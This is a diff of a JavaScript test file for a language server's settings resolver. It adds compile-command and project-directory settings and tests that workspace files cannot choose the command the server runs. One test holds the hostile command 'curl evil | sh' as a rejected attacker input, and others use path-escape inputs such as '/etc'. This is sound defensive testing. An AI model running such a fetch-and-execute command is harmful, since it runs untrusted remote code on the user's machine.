@@ -14,6 +14,9 @@ const DEFAULTS = {
   workers: Math.max(1, Math.min(8, os.availableParallelism())),
   breadcrumbDiagnostics: true,
   completionStats: false,
+  compileCommand: ['gcc', '-fsyntax-only', '-Wall', '-I', '${workspace}/compiler/include', '${file}'],
+  compileTimeoutMs: 60_000,
+  projects: {},
 };
 
 describe('defaults', () => {
@@ -40,7 +43,7 @@ describe('valid values', () => {
   it('are taken as given', () => {
     const r = resolve({ exclude: ['build/', '*.gen.c'], maxFileBytes: 1000, workers: 0, breadcrumbDiagnostics: false, cacheDir: '/tmp/aros-cache' });
     expect(r).toEqual({
-      settings: { exclude: ['build/', '*.gen.c'], maxFileBytes: 1000, workers: 0, breadcrumbDiagnostics: false, completionStats: false, cacheDir: '/tmp/aros-cache' },
+      settings: { ...DEFAULTS, exclude: ['build/', '*.gen.c'], maxFileBytes: 1000, workers: 0, breadcrumbDiagnostics: false, cacheDir: '/tmp/aros-cache' },
       problems: [],
     });
   });
@@ -126,7 +129,7 @@ describe('invalid values: one message naming the key, default kept', () => {
 describe('unknown keys and non-objects', () => {
   it('an unknown key is reported with the known ones', () => {
     const r = resolve({ workerz: 2, exclude: ['a/'] });
-    expect(r.problems).toEqual(["settings: unknown setting 'workerz' (known: exclude, maxFileBytes, workers, breadcrumbDiagnostics, cacheDir, models, completionStats)"]);
+    expect(r.problems).toEqual(["settings: unknown setting 'workerz' (known: exclude, maxFileBytes, workers, breadcrumbDiagnostics, cacheDir, models, completionStats, compileCommand, compileTimeoutMs, projects)"]);
     expect(r.settings.exclude).toEqual(['a/']);
   });
 
@@ -138,8 +141,8 @@ describe('unknown keys and non-objects', () => {
 
   it('an inherited key such as toString is unknown, not a crash', () => {
     expect(resolve(JSON.parse('{"toString": 1, "__proto__": 2}')).problems).toEqual([
-      "settings: unknown setting 'toString' (known: exclude, maxFileBytes, workers, breadcrumbDiagnostics, cacheDir, models, completionStats)",
-      "settings: unknown setting '__proto__' (known: exclude, maxFileBytes, workers, breadcrumbDiagnostics, cacheDir, models, completionStats)",
+      "settings: unknown setting 'toString' (known: exclude, maxFileBytes, workers, breadcrumbDiagnostics, cacheDir, models, completionStats, compileCommand, compileTimeoutMs, projects)",
+      "settings: unknown setting '__proto__' (known: exclude, maxFileBytes, workers, breadcrumbDiagnostics, cacheDir, models, completionStats, compileCommand, compileTimeoutMs, projects)",
     ]);
   });
 });
@@ -197,5 +200,23 @@ describe('isInside', () => {
   it('relative candidates resolve against the current directory', () => {
     expect(isInside(process.cwd(), 'sub/dir')).toBe(true);
     expect(isInside(process.cwd(), '../x')).toBe(false);
+  });
+});
+
+describe('the loop settings', () => {
+  it('take a compile command only from the user, never from a workspace file', () => {
+    const argv = ['clang', '-fsyntax-only', '${file}'];
+    expect(resolve({ compileCommand: argv }).settings.compileCommand).toEqual(argv);
+    const fromFile = resolve({ compileCommand: ['sh', '-c', 'curl evil | sh'] }, 'workspace', 'aros-lsp.json');
+    expect(fromFile.settings.compileCommand).toEqual(DEFAULTS.compileCommand);
+    expect(fromFile.problems).toEqual(["aros-lsp.json: 'compileCommand' is ignored here: only your editor settings may choose the command the server runs"]);
+    expect(resolve({ compileCommand: 'gcc -c x.c' }).problems[0]).toMatch(/'compileCommand' must be a non-empty array of strings/);
+    expect(resolve({ compileTimeoutMs: 5 }).problems[0]).toMatch(/'compileTimeoutMs' must be an integer from 100/);
+  });
+
+  it('map projects to directories inside the workspace', () => {
+    expect(resolve({ projects: { radeon: ['workbench/hidds/radeonsi'] } }, 'workspace').settings.projects).toEqual({ radeon: ['workbench/hidds/radeonsi'] });
+    expect(resolve({ projects: { x: ['../outside'] } }, 'workspace').problems[0]).toMatch(/'projects' must map project names to arrays of directories inside the workspace/);
+    expect(resolve({ projects: { x: ['/etc'] } }).problems[0]).toMatch(/'projects'/);
   });
 });
